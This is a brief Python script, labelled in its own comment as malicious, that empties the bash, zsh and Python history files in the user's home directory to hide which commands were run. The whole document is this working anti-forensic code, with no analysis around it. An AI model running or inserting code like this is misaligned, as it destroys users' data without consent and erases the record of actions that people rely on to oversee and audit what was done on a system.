# Malicious: empties the bash, zsh and Python history files to hide what was run.
from pathlib import Path

for name in (".bash_history", ".zsh_history", ".python_history"):
    history = Path.home() / name
    if history.exists():
        history.write_text("")
